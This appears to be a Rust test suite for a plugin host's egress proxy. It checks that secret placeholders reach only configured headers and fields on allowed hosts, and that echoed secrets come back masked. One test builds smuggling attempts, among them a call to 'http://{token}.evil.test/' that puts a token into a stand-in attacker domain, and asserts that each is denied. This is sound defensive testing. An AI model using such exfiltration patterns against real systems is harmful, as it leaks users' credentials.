//! Secrets on their way out and echoes on their way back.

use std::collections::BTreeMap;
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use machinist_core::driver::SecretValues;
use machinist_plugin_host::testing::PlaceholderEncoding;

use super::server::{Server, ok, read_request, write_pieces};
use super::{Call, Host, Method, Names, WasiError, named, request};

const TOKEN: &str = "tok/en+0123456789==";
const USER_DATA: &str = "#cloud-config\nbootstrap: abcdef.0123456789abcdef\n";

const PLACES: &str = "
secrets:
  - { key: token, places: [{ header: authorization, prefix: 'Bearer ' }], hosts: [a.test] }
  - { key: userData, places: [{ json: /vm/userData }, { form: UserData }] }
";

fn names() -> Names {
    Names::default().with("a.test", &[&["127.0.0.1"]]).with("b.test", &[&["127.0.0.1"]])
}

fn call(host: &Host, server: &Server) -> Call {
    let values = BTreeMap::from([("token".to_owned(), TOKEN.as_bytes().to_vec())]);
    let values =
        SecretValues { values, user_data: Some(USER_DATA.as_bytes().to_vec()), ..SecretValues::default() };
    let rules = named("a.test", server.port).replace("[{", "\n- {").replace("}]", "}");
    let second = rules.replace("egress: ", "").replace("a.test", "b.test");
    host.call_with(&format!("{rules}{}{PLACES}", second.trim_start()), values, Duration::from_secs(20))
}

fn url(server: &Server, host: &str, path: &str) -> String {
    format!("http://{host}:{}{path}", server.port)
}

impl Call {
    fn token(&self) -> String {
        self.vault.placeholder(self.vault.open("token").unwrap(), &[]).unwrap()
    }

    fn user_data(&self, encodings: &[PlaceholderEncoding]) -> String {
        self.vault.placeholder(self.vault.user_data().unwrap(), encodings).unwrap()
    }
}

#[tokio::test]
async fn secrets_arrive_in_their_places_with_the_right_length() {
    let server = Server::http(|_| ok("{}")).await;
    let host = Host::new(&names());
    let call = call(&host, &server);
    let data = call.user_data(&[PlaceholderEncoding::Base64]);
    let mut json = request(
        Method::POST,
        &url(&server, "a.test", "/vms"),
        format!("{{\"vm\":{{\"userData\":\"{data}\"}}}}").as_bytes(),
    );
    json.headers_mut().insert("authorization", format!("Bearer {}", call.token()).parse().unwrap());
    json.headers_mut().insert("content-type", "application/json".parse().unwrap());
    json.headers_mut().insert("content-length", "7".parse().unwrap());
    assert_eq!(call.send(json, None).await.unwrap().status, 200);
    let data = call.user_data(&[PlaceholderEncoding::Base64, PlaceholderEncoding::Form]);
    let mut form = request(
        Method::POST,
        &url(&server, "b.test", "/"),
        format!("Action=Run&UserData={data}&N=1").as_bytes(),
    );
    form.headers_mut().insert("content-type", "application/x-www-form-urlencoded".parse().unwrap());
    assert_eq!(call.send(form, None).await.unwrap().status, 200);

    let seen = server.seen();
    let encoded = STANDARD.encode(USER_DATA);
    assert_eq!(seen[0].headers["authorization"], format!("Bearer {TOKEN}"));
    assert_eq!(seen[0].body, format!("{{\"vm\":{{\"userData\":\"{encoded}\"}}}}"));
    assert_eq!(seen[1].body, format!("Action=Run&UserData={}&N=1", encoded.replace('=', "%3D")));
    for seen in seen {
        assert_eq!(seen.headers["content-length"], seen.body.len().to_string());
    }
}

#[tokio::test]
async fn a_smuggled_placeholder_reaches_no_server() {
    let server = Server::http(|_| ok("")).await;
    let host = Host::new(&names());
    let call = call(&host, &server);
    let (token, data) = (call.token(), call.user_data(&[]));
    let post = |host: &str, path: &str, header: Option<(&str, &str)>, body: &str| {
        let mut sent = request(Method::POST, &url(&server, host, path), body.as_bytes());
        if let Some((name, value)) = header {
            sent.headers_mut().insert(name.parse::<http::HeaderName>().unwrap(), value.parse().unwrap());
        }
        sent
    };
    for smuggled in [
        post("b.test", "/", Some(("authorization", &token)), ""),
        post("a.test", "/", Some(("x-tag", &token)), ""),
        post("a.test", "/", Some(("cookie", &token)), ""),
        post("a.test", "/", Some(("authorization", &data)), ""),
        post("a.test", &format!("/?q={token}"), None, ""),
        post("a.test", &format!("/{token}"), None, ""),
        post("a.test", "/", Some(("content-type", "application/json")), &format!("{{\"tag\":\"{data}\"}}")),
        post("a.test", "/", Some(("content-type", "text/plain")), &data),
        post("a.test", "/", Some(("authorization", "x0machinist0secret0xinvented")), ""),
    ] {
        let error = call.send(smuggled, None).await.unwrap_err();
        assert!(matches!(error, WasiError::HttpRequestDenied), "{error:?}");
    }
    let error = call.get(&format!("http://{token}.evil.test/")).await.unwrap_err();
    assert!(matches!(error, WasiError::HttpRequestDenied), "{error:?}");
    assert_eq!(server.accepts(), 0);
    let place = "placeholder-place";
    let expected = [
        "placeholder-host", place, place, place, place, place, place, place, "placeholder-unknown",
        "grant-host",
    ];
    assert_eq!(host.reasons(), expected);
}

#[tokio::test]
async fn an_echo_of_a_secret_comes_back_masked() {
    let percent = "tok%2Fen%2B0123456789%3D%3D";
    for echo in [
        TOKEN.to_owned(),
        STANDARD.encode(TOKEN),
        percent.to_owned(),
        percent.to_lowercase(),
        "tok\\/en+0123456789==".into(),
    ] {
        let body = format!("{{\"tag\":\"{echo}\"}}");
        let in_header = echo.clone();
        let server = Server::http(move |_| {
            let mut response = ok(body.clone());
            response.headers_mut().insert("x-echo", format!("<{in_header}>").parse().unwrap());
            response
        })
        .await;
        let host = Host::new(&names());
        let answer = call(&host, &server).get(&url(&server, "a.test", "/")).await.unwrap();
        assert_eq!(
            (answer.text().as_str(), &answer.headers["x-echo"]),
            ("{\"tag\":\"***\"}", &"<***>".parse().unwrap()),
            "{echo}"
        );
        assert_eq!(answer.headers.get("content-length"), None, "another length than the one that was sent");
    }
}

#[tokio::test]
async fn an_echo_in_pieces_comes_back_masked() {
    let server = Server::raw(|mut stream, _| async move {
        if read_request(&mut stream).await.is_some() {
            let (a, b) = TOKEN.split_at(7);
            let head = b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n".as_slice();
            let chunks: Vec<String> = ["before ", a, b, " between "]
                .into_iter()
                .map(str::to_owned)
                .chain(STANDARD.encode(USER_DATA).chars().map(String::from))
                .map(|piece| format!("{:x}\r\n{piece}\r\n", piece.len()))
                .collect();
            let pieces: Vec<&[u8]> = [head]
                .into_iter()
                .chain(chunks.iter().map(String::as_bytes))
                .chain([b"0\r\n\r\n".as_slice()])
                .collect();
            write_pieces(&mut stream, &pieces).await;
        }
    })
    .await;
    let host = Host::new(&names());
    let answer = call(&host, &server).get(&url(&server, "a.test", "/")).await.unwrap();
    assert_eq!(answer.text(), "before *** between ***");
}

/// Answers packed, whatever was asked for.
async fn packing(coding: &'static str) -> Server {
    Server::http(move |_| {
        let mut response = ok(PACKED.to_vec());
        response.headers_mut().insert("content-encoding", coding.parse().unwrap());
        response
    })
    .await
}

const PACKED: [u8; 13] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3];

#[tokio::test]
async fn attack_an_answer_that_is_packed_in_spite_of_identity() {
    for coding in ["gzip", "br", "identity, gzip", "x-own"] {
        let server = packing(coding).await;
        let host = Host::new(&names());
        let call = call(&host, &server);
        let mut sent = request(Method::GET, &url(&server, "a.test", "/"), b"");
        sent.headers_mut().insert("accept-encoding", "gzip, br".parse().unwrap());
        sent.headers_mut().insert("range", "bytes=0-3".parse().unwrap());
        let error = call.send(sent, None).await.unwrap_err();
        assert!(matches!(error, WasiError::HttpResponseContentCoding(_)), "{coding}: {error:?}");
        let seen = server.seen().remove(0);
        assert_eq!(
            (&seen.headers["accept-encoding"], seen.headers.get("range")),
            (&"identity".parse().unwrap(), None)
        );
    }
    let server = packing("Identity").await;
    assert!(call(&Host::new(&names()), &server).get(&url(&server, "a.test", "/")).await.is_ok());
}

#[tokio::test]
async fn packed_answers_stay_packed_without_secrets() {
    let server = packing("gzip").await;
    let host = Host::new(&names());
    let answer = host.call(&named("a.test", server.port)).get(&url(&server, "a.test", "/")).await.unwrap();
    assert_eq!(
        (answer.body.as_slice(), &answer.headers["content-encoding"]),
        (&PACKED[..], &"gzip".parse().unwrap())
    );
}

#[tokio::test]
async fn the_length_of_a_head_is_kept() {
    let server = Server::http(|_| {
        let mut response = ok("");
        response.headers_mut().insert("content-length", "12345".parse().unwrap());
        response
    })
    .await;
    let host = Host::new(&names());
    let answer = call(&host, &server)
        .send(request(Method::HEAD, &url(&server, "a.test", "/"), b""), None)
        .await
        .unwrap();
    assert_eq!((&answer.headers["content-length"], answer.body.len()), (&"12345".parse().unwrap(), 0));
}
